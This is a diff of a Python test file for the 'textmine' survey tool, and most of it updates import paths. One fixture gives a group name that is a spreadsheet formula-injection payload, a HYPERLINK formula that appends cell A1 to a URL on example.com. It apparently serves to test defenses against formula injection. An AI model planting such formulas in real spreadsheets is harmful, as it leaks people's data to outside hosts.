@@ -5,12 +5,11 @@ import numpy as np
 import pandas as pd
 import pytest
 
-from textmine import shares
+from textmine.survey import shares
 from textmine.cli import main
 from textmine.config import load_config
-from textmine.io import read_survey
-from textmine.survey_setup import BACKGROUND, CHECKBOX, ID, LIKERT, OTHER, QUESTION, WEIGHT, SetupError, description, \
-    propose, with_roles
+from textmine.survey.reading import read_survey
+from textmine.survey.setup import (BACKGROUND, CHECKBOX, ID, LIKERT, OTHER, QUESTION, WEIGHT, SetupError, description, propose, with_roles)
 
 from .conftest import DATA
 
@@ -120,7 +119,7 @@ def test_shares_by_group_with_the_written_description_match_a_hand_count(tmp_pat
 
 @pytest.mark.parametrize("codes,high_from", [([str(v) for v in range(1, 8)], 5), (["Ved ikke", *map(str, range(11))], 7)])
 def test_shares_on_a_1_7_and_a_0_10_scale(tmp_path, codes, high_from):
-    from textmine.survey_setup import to_toml
+    from textmine.survey.setup import to_toml
 
     survey = pd.DataFrame({"id": [f"x{i}" for i in range(50)], "gruppe": [["A", "B"][i % 2] for i in range(50)],
                            "s_a": [codes[(i * 3) % len(codes)] for i in range(50)]})
@@ -195,7 +194,7 @@ def test_init_with_a_sheet_records_the_sheet_so_the_description_reads_it(tmp_pat
 
 
 def _survey_with_a_formula_group(tmp_path):
-    from textmine.survey_setup import description, save_description
+    from textmine.survey.setup import description, save_description
 
     rng = np.random.default_rng(3)
     groups = ["Aarhus", '=HYPERLINK("http://example.com/?q="&A1,"klik")', "Skive"]
